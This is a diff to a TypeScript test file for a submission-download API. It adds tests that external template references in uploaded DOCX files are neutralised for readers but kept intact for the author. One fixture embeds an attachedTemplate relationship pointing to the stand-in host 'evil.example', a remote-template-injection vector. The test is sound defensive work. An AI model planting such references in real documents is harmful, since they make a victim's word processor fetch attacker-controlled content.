@@ -1,5 +1,6 @@
 import { writing } from '@antecedent/catalog/en/refusals/writing';
 import { ATTACHMENT_REFUSAL, type Attachment } from '@antecedent/contracts/attachments/attachments';
+import { readZip } from '@antecedent/domain/office/zip/zip';
 import { DAY } from '@antecedent/domain/time';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -18,6 +19,7 @@ import {
   type TestClass,
 } from '../../testing/scenarios.ts';
 import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';
+import { partsOf, withParts } from '../versions/testing/version-scenario.ts';
 
 const MIB = 1024 * 1024;
 
@@ -288,6 +290,31 @@ describe('GET /api/submission/download/:id', () => {
     const stranger = await aUser(server, { roles: ['ROLE_INSTRUCTOR', 'ROLE_TEACHING_ASSISTANT'] });
     expect((await get(stranger, `/submission/download/${file?.id}`)).statusCode).toBe(404);
     expect((await get(work.student, `/submission/download/${file?.id}`)).statusCode).toBe(403);
+  });
+});
+
+describe('an office file that loads something from elsewhere', () => {
+  it('does so no more for its readers, and is given back to its author as it was', async () => {
+    const rels = 'word/_rels/settings.xml.rels';
+    const bytes = withParts(aDocument('One'), {
+      [rels]: `<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+    });
+    const [file] = await attached({ fileName: 'Notes.DOCX', bytes });
+    const read = await get(work.course.instructor, `/submission/download/${file?.id}`);
+    const after = Buffer.from(partsOf(read.rawPayload)[rels] ?? '', 'base64').toString();
+    expect(after).toContain('Target="about:blank"');
+    const own = await get(work.student, `/student/download/${file?.id}`);
+    expect(Buffer.compare(own.rawPayload, Buffer.from(bytes))).toBe(0);
+  });
+
+  it('is given as it is when it is damaged', async () => {
+    const bytes = Uint8Array.from(aDocument('One'));
+    readZip(bytes).byName.get('word/_rels/document.xml.rels')?.raw.fill(0x55);
+    expect(Buffer.compare(bytes, Buffer.from(aDocument('One')))).not.toBe(0);
+    const [file] = await attached({ fileName: 'Notes.docx', bytes });
+    const read = await get(work.course.instructor, `/submission/download/${file?.id}`);
+    expect(read.statusCode).toBe(200);
+    expect(Buffer.compare(read.rawPayload, Buffer.from(bytes))).toBe(0);
   });
 });
 
